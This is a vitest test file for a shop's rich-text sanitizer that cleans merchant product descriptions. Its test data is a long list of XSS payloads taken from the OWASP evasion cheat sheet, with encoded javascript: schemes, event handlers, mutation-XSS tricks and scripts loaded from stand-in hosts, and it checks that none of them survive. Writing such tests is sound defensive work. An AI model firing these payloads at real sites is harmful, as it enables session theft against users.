import { describe, expect, it } from 'vitest'
import { plainTextOf, sanitizeRichText } from './rich-text.js'

// Merchants' descriptions reach every shopper: only the editor's allow-list survives.

/** What the output may contain: these tags, these attributes, these URLs; nothing else. */
const ALLOWED: Record<string, readonly string[]> = {
  ...Object.fromEntries(
    ['p', 'br', 'strong', 'b', 'em', 'i', 'u', 's', 'ul', 'ol', 'li', 'h2', 'h3', 'h4'].map(
      (tag) => [tag, []],
    ),
  ),
  blockquote: [],
  span: [],
  a: ['href', 'title', 'rel', 'target'],
  img: ['src', 'alt', 'width', 'height'],
}
const SAFE_URL = /^(https?:\/\/|\/api\/commerce\/images\/)/
const TAG = /<(\/?)([a-z0-9]+)((?:\s+[a-z]+="[^"<>]*")*)\s*\/?>/g
const ATTRIBUTE = /([a-z]+)="([^"]*)"/g

/** Fails unless every `<` opens an allowed, well-formed tag with allowed attributes and URLs. */
function expectInert(html: string): void {
  const tags = [...html.matchAll(TAG)]
  expect(tags.length, `stray "<" in ${html}`).toBe(html.split('<').length - 1)
  for (const [, , name = '', attributes = ''] of tags) {
    expect(Object.keys(ALLOWED), html).toContain(name)
    for (const [, attribute = '', value = ''] of attributes.matchAll(ATTRIBUTE)) {
      expect(ALLOWED[name], html).toContain(attribute)
      if (attribute === 'href' || attribute === 'src') expect(value, html).toMatch(SAFE_URL)
    }
  }
  expect(html).not.toMatch(/\0/)
}

// From the OWASP XSS Filter Evasion Cheat Sheet, written out here (no fetch at test time), plus
// the mutation-XSS and scheme tricks it links to.
const VECTORS: readonly [string, string][] = [
  ['script tag', '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>'],
  ['script with inline code', '<script>alert(document.cookie)</script>'],
  ['javascript: image', `<IMG SRC="javascript:alert('XSS');">`],
  ['no quotes, no semicolon', `<IMG SRC=javascript:alert('XSS')>`],
  ['mixed case scheme', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['HTML entities in the URL', '<IMG SRC=javascript:alert(&quot;XSS&quot;)>'],
  ['grave accents', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['malformed A tag', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['malformed IMG tag', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ['fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  ['default src with onmouseover', `<IMG SRC=# onmouseover="alert('xxs')">`],
  ['empty src with onmouseover', `<IMG SRC= onmouseover="alert('xxs')">`],
  ['no src at all', `<IMG onmouseover="alert('xxs')">`],
  ['onerror', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  [
    'onerror encoded',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  ],
  [
    'decimal entities',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  ],
  [
    'long decimal entities without semicolons',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  ],
  [
    'hex entities without semicolons',
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  ],
  ['embedded tab', `<IMG SRC="jav\tascript:alert('XSS');">`],
  ['encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ['encoded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ['encoded carriage return', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ['null byte in the scheme', '<IMG SRC=java\0script:alert("XSS")>'],
  ['null byte in the tag', '<scr\0ipt>alert(1)</scr\0ipt>'],
  ['spaces and control characters', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ['non-alpha after the tag name', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['junk attribute name', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['extraneous open bracket', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['no closing script tag', '<SCRIPT SRC=http://xss.rocks/xss.js?< B >'],
  ['half-open tag', `<IMG SRC="javascript:alert('XSS')"`],
  ['iframe, unclosed', '<iframe src=http://xss.rocks/scriptlet.html <'],
  ['end title', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['input image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ['body background', `<BODY BACKGROUND="javascript:alert('XSS')">`],
  [
    'img dynsrc and lowsrc',
    `<IMG DYNSRC="javascript:alert('XSS')"><IMG LOWSRC="javascript:alert('XSS')">`,
  ],
  [
    'list-style-image',
    `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  ],
  ['vbscript', `<IMG SRC='vbscript:msgbox("XSS")'><a href="vbscript:msgbox(1)">x</a>`],
  ['svg onload', `<svg/onload=alert('XSS')>`],
  ['svg with script inside', '<svg><script>alert(1)</script><a href="https://ok">x</a></svg>'],
  ['body onload', `<BODY ONLOAD=alert('XSS')>`],
  ['bgsound', `<BGSOUND SRC="javascript:alert('XSS');">`],
  ['stylesheet link', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ['meta refresh', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  [
    'meta refresh with data:',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  ],
  ['iframe', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['frameset', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ['table background', `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ['div background-image', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
  ['expression()', `<DIV STYLE="width: expression(alert('XSS'));">`],
  ['expression() broken by a comment', `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  ['style on an allowed tag', '<span style="x:expression(alert(1))">x</span>'],
  ['behavior', '<XSS STYLE="behavior: url(xss.htc);">'],
  ['base href', `<BASE HREF="javascript:alert('XSS');//">`],
  ['object', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'],
  [
    'embed of an SVG data URL',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  ],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: image holding an SVG', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['control character before the scheme', '<a href="&#1;javascript:alert(1)">x</a>'],
  ['named entity colon', '<a href="jAvAsCrIpT&colon;alert(1)">x</a>'],
  ['numeric entity colon', '<a href="javascript&#58;alert(1)">x</a>'],
  ['entity newline in the scheme', '<a href="java&NewLine;script:alert(1)">x</a>'],
  ['leading spaces', '<a href="   javascript:alert(1)">x</a>'],
  ['protocol-relative', '<a href="//evil.example/x">x</a><img src="//evil.example/x.png">'],
  ['conditional comment', `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`],
  ['quoted > in a script attribute', '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['quoted > with a bare =', '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['nested quotes', `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  [
    'document.write split',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  ],
  ['nested script tags', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  [
    'quote breaking out of an allowed attribute',
    `<a href="https://ok" title='"><script>alert(1)</script>'>ok</a>`,
  ],
  ['onerror after a good image', '<img src="https://ok.example/a.png" alt="x" onerror=alert(1)//>'],
  ['mXSS through noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  [
    'mXSS through math and style',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ],
  ['form action', '<form action="javascript:alert(1)"><button>x</button></form>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['textarea breakout', '<textarea></textarea><script>alert(1)</script>'],
  ['template', '<template><script>alert(1)</script></template>'],
]

describe('sanitizeRichText', () => {
  it.each(VECTORS)('leaves nothing executable from %s', (_name, vector) => {
    const output = sanitizeRichText(vector)
    expectInert(output)
    expect(output).not.toMatch(/<script|javascript:|vbscript:|data:|\son\w+=|style=|expression\(/i)
  })

  it('keeps the editor output unchanged: headings, paragraphs, emphasis, lists, quotes, links, images', () => {
    const html = [
      '<h2>台蘑</h2><h3>产地</h3>',
      '<p>五台山<strong>台顶</strong>草甸，<em>立秋</em>采集。<br />干燥后<b>避光</b><i>保存</i>，<u>勿</u><s>暴晒</s>。</p>',
      '<ul><li>100g</li><li>250g</li></ul><ol><li>泡发</li><li>炖煮</li></ol>',
      '<blockquote><span>“台蘑味最鲜。”</span></blockquote><h4>售后</h4>',
      '<p><a href="https://wutai.gov.cn/tm" title="官网" rel="noopener noreferrer nofollow" target="_blank">官网</a></p>',
      '<img src="/api/commerce/images/abc" alt="台蘑" width="640" height="480" />',
      '<img src="https://img.example.cn/taimo.jpg" alt="礼盒" />',
    ].join('')
    expect(sanitizeRichText(html)).toBe(html)
    expect(sanitizeRichText(sanitizeRichText(html))).toBe(html)
  })

  it('writes void tags in one form and opens links apart from the shop', () => {
    expect(sanitizeRichText('<p>一<br>二</p><img src="/api/commerce/images/abc">')).toBe(
      '<p>一<br />二</p><img src="/api/commerce/images/abc" />',
    )
    expect(sanitizeRichText('<a href=" https://wutai.gov.cn " target="_self">官网</a>')).toBe(
      '<a href="https://wutai.gov.cn" rel="noopener noreferrer nofollow" target="_blank">官网</a>',
    )
  })

  it('drops what the editor never writes, keeping the words', () => {
    expect(
      sanitizeRichText(
        '<p style="x" onmouseover="steal()" class="c">好<script>alert("x")</script><style>p{}</style></p><div>块</div><a href=" JaVaScRiPt:alert(1)">点我</a><img src="x" width="100%">',
      ),
    ).toBe('<p>好</p>块<a>点我</a>')
  })

  it('escapes stray markup and quotes instead of passing them through', () => {
    expect(sanitizeRichText('1 < 2 & 3 > 2 <!-- hidden --><b>x</b>')).toBe(
      '1 &lt; 2 &amp; 3 &gt; 2 <b>x</b>',
    )
    expect(
      sanitizeRichText('<img src="/api/commerce/images/a" alt="&quot; onerror=&quot;alert(1)">'),
    ).toBe('<img src="/api/commerce/images/a" alt="&quot; onerror=&quot;alert(1)" />')
  })
})

describe('plainTextOf', () => {
  it('gives the words for the search text', () => {
    expect(plainTextOf('<p>台蘑&amp;小米</p><p>佛光村</p>')).toBe('台蘑&小米 佛光村')
  })
})
